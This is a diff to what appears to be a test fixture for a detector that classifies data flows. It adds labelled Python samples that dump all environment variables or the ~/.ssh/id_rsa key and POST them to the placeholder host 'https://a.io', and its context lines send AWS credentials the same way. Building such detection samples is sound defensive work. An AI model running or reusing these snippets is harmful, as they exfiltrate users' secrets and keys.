@@ -17,6 +17,10 @@ HOST = (Source.HOST_DATA, Sink.SEND)
 SPYING = (Source.PERSONAL, Sink.SEND)
 
 FLOWS: dict[str, tuple[str, Expected]] = {
+    # -- collections that grow --------------------------------------------------------------------------------------------
+    "pieces of a text over a dictionary that grew": ("import os, requests\nd = {}\nd.update({k: v for k, v in os.environ.items()})\nt = '\\n'.join(f'{k}={v}' for k, v in d.items())\nfor i in range(0, len(t), 1900):\n    requests.post('https://a.io', data=t[i:i + 1900])", ENVIRONMENT),
+    "entries under unknown keys": ("import os, requests\nd = {}\nfor k in os.environ:\n    d[k] = os.environ[k]\nfor k, v in d.items():\n    requests.post('https://a.io', data=v)", ENVIRONMENT),
+    "list that other things extend": ("import os, requests\nl = []\nl.extend(open(os.path.expanduser('~/.ssh/id_rsa')))\nfor x in l:\n    requests.post('https://a.io', data=x)", THEFT),
     # -- secrets read and sent ----------------------------------------------------------------------------------------
     "home / path, read_text": ("from pathlib import Path\nimport requests\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('https://a.io', data=k)", THEFT),
     "joinpath, expanduser, with": ("from pathlib import Path\nimport httpx\np = Path('~').expanduser().joinpath('.aws', 'credentials')\nwith p.open('rb') as f:\n    httpx.post('https://a.io', content=f.read())", THEFT),
